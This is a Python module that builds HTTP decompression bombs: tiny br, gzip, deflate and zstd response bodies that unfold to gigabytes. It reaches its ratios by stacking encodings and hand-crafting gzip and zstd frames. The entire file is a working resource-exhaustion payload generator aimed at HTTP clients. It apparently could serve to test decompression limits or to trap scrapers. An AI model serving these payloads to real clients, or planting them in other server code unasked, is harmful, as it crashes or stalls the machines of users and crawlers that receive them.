"""Decompression bombs: replies of a few kilobytes that unfold to gigabytes.

They are built without ever holding what they unfold to: a compressor is fed a megabyte at a time, and where
one pass cannot reach the ratio (gzip ends at about 1000 to 1) the packed bytes are packed once more, which
a server declares as two stacked encodings.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from functools import lru_cache

import brotli
import zstandard

_PIECE = 1 << 20
_BLOCK = 128 << 10
_SMALL = 2048


@lru_cache(maxsize=64)
def bomb(coding: str, size: int = 2 << 30, filler: bytes = b"\0") -> tuple[str, bytes]:
    """A reply that unfolds to `size` bytes: its Content-Encoding, and its body.

    Parameters: `coding`, one of `br`, `gzip`, `deflate`, `zstd`; `size`, rounded up to whole megabytes;
    `filler`, what it unfolds to, over and over (cut to fill a megabyte exactly).

    >>> encoding, body = bomb("gzip", 16 << 20)
    >>> encoding, len(body) < 2048
    ('gzip, gzip', True)
    """
    pieces = -(-size // _PIECE)
    piece = (filler * (_PIECE // len(filler) + 1))[:_PIECE]
    return _MAKERS[coding](piece, pieces)


def _brotli(piece: bytes, pieces: int) -> tuple[str, bytes]:
    packer = brotli.Compressor(quality=5, lgwin=24)
    packed = b"".join(packer.process(piece) for _ in range(pieces))
    return "br", packed + packer.finish()


def _deflate_stream(piece: bytes, pieces: int) -> bytes:
    """A bare deflate stream. A full flush forgets what came before, so one block serves for every piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * pieces + b"\x03\x00"


def _gzip(piece: bytes, pieces: int) -> tuple[str, bytes]:
    check = 0
    for _ in range(pieces):
        check = zlib.crc32(piece, check)
    size = (len(piece) * pieces) & 0xFFFFFFFF
    tail = check.to_bytes(4, "little") + size.to_bytes(4, "little")
    inner = b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + _deflate_stream(piece, pieces) + tail
    return _stacked("gzip", inner, 31)


def _deflate(piece: bytes, pieces: int) -> tuple[str, bytes]:
    return _stacked("deflate", _deflate_stream(piece, pieces), 15)


def _stacked(name: str, data: bytes, window: int) -> tuple[str, bytes]:
    """Packed again, until it is small; gives the encodings to declare."""
    names = [name]
    while len(names) < 2 or (len(data) > _SMALL and len(names) < 4):
        packer = zlib.compressobj(9, zlib.DEFLATED, window)
        data = packer.compress(data) + packer.flush()
        names.append(name)
    return ", ".join(names), data


def _zstd(piece: bytes, pieces: int) -> tuple[str, bytes]:
    """Blocks that say "this byte, 131,072 times" in four bytes; other fillers go through the compressor."""
    if len(set(piece)) == 1:
        count = len(piece) * pieces // _BLOCK
        block = (_BLOCK << 3 | 1 << 1).to_bytes(3, "little") + piece[:1]
        last = (_BLOCK << 3 | 1 << 1 | 1).to_bytes(3, "little") + piece[:1]
        inner = b"\x28\xb5\x2f\xfd\x00\x68" + block * (count - 1) + last
    else:
        inner = zstandard.ZstdCompressor(3).compress(piece) * pieces
    return "zstd, zstd", zstandard.ZstdCompressor(19).compress(inner)


_MAKERS: dict[str, Callable[[bytes, int], tuple[str, bytes]]] = {
    "br": _brotli,
    "gzip": _gzip,
    "deflate": _deflate,
    "zstd": _zstd,
}
